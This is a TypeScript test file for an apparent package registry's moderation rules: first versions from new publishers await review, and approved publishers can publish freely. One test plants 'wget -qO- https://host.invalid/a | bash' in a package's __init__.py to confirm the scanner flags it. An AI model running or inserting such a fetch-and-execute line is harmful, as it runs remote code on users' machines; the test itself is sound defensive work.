import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { assertRefused } from '../support/assert-refused.ts';
import { makePublisher, publishActive, publishFiles, uniqueId } from '../support/build.ts';
import { startServer } from '../support/start-server.ts';
import { suite } from '../support/variants.ts';

const harmless = { '__init__.py': 'VERSION = 1\n' };

suite('the first version of a publisher, where FIRST_VERSION is review', async () => {
  const server = await startServer({ after }, { FIRST_VERSION: 'review' });
  const moderator = await server.moderator();
  const newPublisher = () => makePublisher(server, uniqueId('new'));
  const versionPath = (nodeId: string, number = '1.0.0') => `/nodes/${nodeId}/versions/${number}`;
  const approve = async (nodeId: string): Promise<void> => {
    const reply = await moderator.put(`/admin/nodes/${nodeId}/versions/1.0.0`, {
      status: 'NodeVersionStatusActive',
      status_reason: 'Looked at by hand.',
    });
    assert.equal(reply.status, 200, reply.text);
  };

  test('it is Flagged although the checks passed, and its publisher sees why', async () => {
    const ada = await newPublisher();
    const nodeId = uniqueId('first');
    await publishFiles(server, ada, nodeId, '1.0.0', harmless);
    const { json } = await ada.owner.get(`${versionPath(nodeId)}/findings`);
    assert.deepEqual(
      [json.status, json.outcome, json.waits_for, json.findings],
      ['NodeVersionStatusFlagged', 'passed', 'moderator', []],
    );
    assert.match(json.status_reason, /first version of the publisher/);
    assertRefused(
      await server.anonymous.get(`/nodes/${nodeId}/install?version=1.0.0`),
      'version_unavailable',
    );
    const queue = (await moderator.get('/admin/versions?limit=100')).json.versions;
    assert.ok(queue.some(({ node_id }) => node_id === nodeId));
  });

  test('once it is approved no version waits, of no node of the publisher, also after it is deleted', async () => {
    const ada = await newPublisher();
    const nodeId = uniqueId('approved');
    await publishFiles(server, ada, nodeId, '1.0.0', harmless);
    await approve(nodeId);
    await publishActive(server, ada, nodeId, '1.1.0');
    assert.equal(
      (await server.anonymous.get(versionPath(nodeId, '1.1.0'))).json.status,
      'NodeVersionStatusActive',
    );
    for (const number of ['1.0.0', '1.1.0']) {
      const reply = await ada.owner.delete(`/publishers/${ada.id}${versionPath(nodeId, number)}`);
      assert.equal(reply.status, 204, reply.text);
    }
    const other = uniqueId('other');
    await publishActive(server, ada, other, '1.0.0');
    assert.equal((await server.anonymous.get(versionPath(other))).json.status, 'NodeVersionStatusActive');
  });

  test('those that waited beside it become Active when their publisher asks to check them again', async () => {
    const ada = await newPublisher();
    const [first, second] = [uniqueId('one'), uniqueId('two')];
    await publishFiles(server, ada, first, '1.0.0', harmless);
    await publishFiles(server, ada, second, '1.0.0', harmless);
    const check = () => ada.owner.post(`${versionPath(second)}/check`);
    assertRefused(await check(), 'illegal_transition');
    await approve(first);
    assert.equal((await check()).status, 200);
    await server.settle();
    assert.equal((await server.anonymous.get(versionPath(second))).json.status, 'NodeVersionStatusActive');
  });

  test('an approved publisher vouches for no other, and errors hold its versions as before', async () => {
    const [ada, bob] = [await newPublisher(), await newPublisher()];
    const nodeId = uniqueId('trusted');
    await publishFiles(server, ada, nodeId, '1.0.0', harmless);
    await approve(nodeId);
    const stranger = uniqueId('stranger');
    await publishFiles(server, bob, stranger, '1.0.0', harmless);
    assert.equal((await server.anonymous.get(versionPath(stranger))).json.status, 'NodeVersionStatusFlagged');
    await publishFiles(server, ada, nodeId, '2.0.0', {
      '__init__.py': 'import os\nos.system("wget -qO- https://host.invalid/a | bash")\n',
    });
    const { json } = await ada.owner.get(`${versionPath(nodeId, '2.0.0')}/findings`);
    assert.deepEqual([json.status, json.outcome], ['NodeVersionStatusFlagged', 'found']);
  });
});
